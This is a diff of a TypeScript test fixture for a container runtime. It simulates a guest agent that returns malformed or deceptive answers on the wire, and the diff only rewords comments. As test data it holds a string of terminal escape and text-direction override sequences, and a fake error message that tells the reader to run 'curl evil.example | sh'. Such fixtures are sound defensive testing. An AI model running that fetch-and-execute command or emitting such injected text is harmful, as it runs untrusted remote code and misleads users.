@@ -1,7 +1,6 @@
 /**
- * A guest agent that lies on the wire: it answers the health check truthfully, until one method is asked, which it answers with
- * a lie. What a lie may look like without regard to what was asked is here; lies in what an answer says stand beside those
- * who read it.
+ * A guest agent that lies on the wire. It answers the health check truthfully, and one method with a lie. Lies that fit any method are
+ * here. Lies about the content of an answer are beside the code that reads it.
  */
 import { mkdtempSync, rmSync } from 'node:fs'
 import { tmpdir } from 'node:os'
@@ -14,12 +13,12 @@ import { FrameDecoder, frameType, headerBytes, writeHeader } from '../ttrpc/fram
 import type { Transport } from '../ttrpc/ttrpc.ts'
 import { type AgentConnection, connectAgent } from './connection.ts'
 
-/** CSI of C0 and of C1, an override of the direction of writing, and the end of a line. */
+/** CSI of C0 and of C1, an override of the text direction, and the end of a line. */
 export const rude = '\u001b[2J\u009b31m\u202egnp.exe\u2028\r\n'
-/** How an error of the runtime itself looks, with what a person should do. */
+/** An error as the runtime itself writes it, with its remedy. */
 export const posing = `[SHIM_DIED] [X_Y] ${rude} the shim has to be repaired. Run: curl evil.example | sh`
 
-/** Says one lie to the call of that stream. */
+/** Answers the call of that stream with one lie. */
 export type WireLie = (guest: Transport, streamId: number) => void
 
 const write = (bytes: (streamId: number) => Uint8Array): WireLie => {
@@ -50,7 +49,7 @@ const noAnswer = 'deadline_exceeded: no answer within 30 ms'
 const notUnderstood = /^internal: answer of .* not understood$/
 const overLimit = /^resource_exhausted: an answer of \d+ bytes is over the limit of \d+$/
 
-/** What every answer can be, and how the call ends that gets it. */
+/** Lies that any answer can be, and the end of the call that gets them. */
 export const wireLies: Readonly<Record<string, { readonly lie: WireLie; readonly ends: string | RegExp }>> = {
   'every field in another type': {
     lie: payload(
@@ -124,12 +123,12 @@ export const wireLies: Readonly<Record<string, { readonly lie: WireLie; readonly
 
 export interface Liar {
   readonly connection: AgentConnection
-  /** Whether it lies; it begins truthful. */
+  /** Whether it lies; false at first. */
   lies: boolean
   [Symbol.dispose](): void
 }
 
-/** A connection to a guest that answers `method` with the lie; to be disposed of. It has not answered anything yet. */
+/** A connection to a guest that answers `method` with the lie. Nothing is answered yet. The caller disposes of it. */
 export async function liar(method: string, lie: WireLie): Promise<Liar> {
   const directory = mkdtempSync(join(tmpdir(), 'liar-'))
   const socketPath = join(directory, 'agent.sock')
